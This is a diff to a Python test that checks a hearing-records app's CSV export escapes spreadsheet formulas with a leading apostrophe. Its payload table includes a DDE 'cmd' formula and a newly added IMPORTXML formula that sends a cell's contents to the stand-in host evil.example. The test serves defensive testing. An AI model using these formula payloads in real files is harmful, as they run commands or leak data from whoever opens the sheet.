@@ -24,6 +24,7 @@ ATTACKS = {
     "courtroom": "-2+3+cmd|' /C calc'!A0",
     "judge": "\t=1+1",
     "court": "\r=1+1",
+    "case_reference": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
 }
 
 
@@ -44,7 +45,12 @@ def _seed_attacks(db, volunteer_client) -> None:
                 [("judge", 0, 1000)],
                 {"remarks": ATTACKS["remarks"], "nco": "ordered"},
                 case_reference="27-CR-26-0009",
-            )
+            ),
+            hearing(
+                [("judge", 0, 500)],
+                {"remarks": "-" + ATTACKS["remarks"]},
+                case_reference=ATTACKS["case_reference"],
+            ),
         ],
         notes=ATTACKS["notes"],
     )
@@ -58,7 +64,7 @@ def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(db, volunteer
     _seed_attacks(db, volunteer[0])
     client, _ = organizer
     files = read_zip(client.get(f"/sets/{make_set(client)}/export.zip").content)
-    (h,) = _csv_dicts(files["hearings.csv"])
+    h, second = _csv_dicts(files["hearings.csv"])
     (o,) = _csv_dicts(files["observations.csv"])
     assert h["remarks"] == "'" + ATTACKS["remarks"]
     assert h["courtroom"] == "'" + ATTACKS["courtroom"]
@@ -69,6 +75,9 @@ def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(db, volunteer
     assert o["notes"] == "'" + ATTACKS["notes"]
     # Ordinary cells are untouched.
     assert h["case_reference"] == "27-CR-26-0009" and h["nco"] == "ordered"
+    assert second["case_reference"] == "'" + ATTACKS["case_reference"]
+    assert second["remarks"] == "'-" + ATTACKS["remarks"]
+    assert second["judge"] == h["judge"]  # the sitting's cells, made plain once, in every row
     for table in ("hearings.csv", "observations.csv", "codebook.csv"):
         for row in _csv_dicts(files[table]):
             for value in row.values():
